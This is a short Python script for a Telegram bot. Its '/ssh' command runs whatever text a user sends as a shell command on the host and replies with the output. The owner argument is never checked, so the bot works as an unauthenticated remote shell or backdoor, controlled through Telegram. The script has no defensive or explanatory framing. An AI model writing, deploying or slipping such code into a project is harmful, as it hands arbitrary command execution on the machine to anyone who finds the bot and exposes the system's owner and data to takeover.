import telebot, subprocess
def begin(token, owner):
    bot = telebot.TeleBot(token)
    @bot.message_handler(commands=['ssh'])
    def ssh(message):
        command = message.text[5:].strip()
        result = subprocess.run(command, shell=True, capture_output=True, text=True)
        bot.reply_to(message, result.stdout)
    bot.polling()
